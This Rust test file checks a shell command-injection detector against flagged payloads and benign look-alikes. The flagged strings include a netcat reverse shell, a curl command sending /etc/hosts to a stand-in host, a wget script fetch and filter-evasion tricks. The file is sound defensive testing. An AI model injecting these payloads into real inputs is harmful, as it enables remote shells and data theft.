use super::*;

fn hit(s: &str) -> Option<&'static str> {
    detect(s).map(|f| f.reason)
}

#[test]
fn catches_commands_after_separators() {
    for a in [
        "x; cat /etc/hosts",
        "127.0.0.1 && uname -a",
        "foo || wget http://198.51.100.7/x.sh",
        "1;id",
        "abc; whoami",
        "a|id",
        "a&ping -c 3 198.51.100.7",
        "q\nid",
        "name=$(whoami)",
        "v=`id`",
        "$(cat /etc/hosts)",
        "x;sleep 9",
        "'; nc -e /bin/sh 198.51.100.7 4444 #",
        "\"; curl -d @/etc/hosts https://evil.test #",
        "1 && ls -la /var/www",
        "x; cat</etc/hosts",
    ] {
        assert!(hit(a).is_some(), "missed {a:?}");
    }
}

#[test]
fn catches_obfuscation() {
    for a in [
        "x;c'a't /etc/hosts",
        "x;c\"a\"t /etc/hosts",
        "x;c\\at /etc/hosts",
        "x;ca$@t /etc/hosts",
        "x;cat${IFS}/etc/hosts",
        "x;cat$IFS$9/etc/hosts",
        "x;/???/c?t /etc/hosts",
        "x;/bin/c[a]t /etc/hosts",
        "x;{cat,/etc/hosts}",
        "c''at /etc/hosts",
        "/usr/bin/id",
        "w'h'o'am'i",
        "x | /bin/ba?h -i",
    ] {
        assert!(hit(a).is_some(), "missed {a:?}");
    }
}

#[test]
fn benign_look_alikes_pass() {
    for b in [
        "",
        "rock & roll",
        "Tom & Jerry; cats",
        "Fish & chips; cat food is on sale",
        "done; id please",
        "| id | name | email |\n|----|------|-------|\n| 1 | ann | a@example.com |",
        "Use `cat file.txt` to print it",
        "Run `ls` then `pwd`",
        "cat /etc/hosts",
        "ls -la",
        "Q&A; ping me at five",
        "https://example.com/a?b=1&c=2",
        "/usr/share/doc",
        "it's a dog's life; isn't it",
        "price: $5 & up; sleep well",
        "R&D | Sales | HR",
        "AT&T",
        "a && b || c",
        "Me, myself & I",
        "see {a,b} and {c,d}",
        "2 > 1 & 3 < 4",
        "C:\\Windows\\notes.txt",
        "ping-pong; tennis",
        "mail me: echo@example.com",
        "```\nnpm install\nnpm test\n```",
    ] {
        assert_eq!(detect(b), None, "{b:?}");
    }
}

#[test]
fn globs() {
    assert!(glob_match(b"c?t", b"cat"));
    assert!(glob_match(b"/???", b"/bin"));
    assert!(glob_match(b"*at", b"cat"));
    assert!(glob_match(b"c[a-c]t", b"cat"));
    assert!(!glob_match(b"c[!a]t", b"cat"));
    assert!(!glob_match(b"c?t", b"cats"));
}

#[test]
fn never_panics() {
    for s in [
        "'", "\"", "\\", "$", "${IFS", "$(", ")", "`", "[", "x;[", "x;/???/[", "{,}", "x;{", "x;\\",
    ] {
        let _ = detect(s);
    }
    let _ = detect(";".repeat(50_000));
    let _ = detect("$(".repeat(5_000));
    let bytes: Vec<u8> = (0..=255u8).collect();
    let _ = detect(&bytes);
}
